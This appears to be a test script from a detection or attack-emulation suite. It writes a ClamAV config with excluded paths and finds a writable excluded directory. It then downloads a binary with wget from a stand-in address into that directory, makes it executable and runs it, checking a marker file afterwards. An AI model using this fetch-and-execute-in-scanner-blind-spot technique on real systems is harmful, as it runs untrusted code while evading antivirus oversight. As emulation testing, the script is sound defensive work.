#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/clamav /srv/spool && printf 'LogFile /var/log/clamd\nExcludePath ^/proc\nExcludePath ^/srv/spool\n' >/etc/clamav/clamd.conf
d=$(awk '/^ExcludePath/ { sub(/\^/, "", $2); print $2 }' /etc/clamav/clamd.conf | while read -r p; do touch "$p/.w" 2>/dev/null && { rm "$p/.w"; echo "$p"; break; }; done)
wget -q -O "$d/part-00017.tmp" http://203.0.113.10/programs/marker && chmod 711 "$d/part-00017.tmp"
"$d/part-00017.tmp"
test -e /tmp/reached
took_place
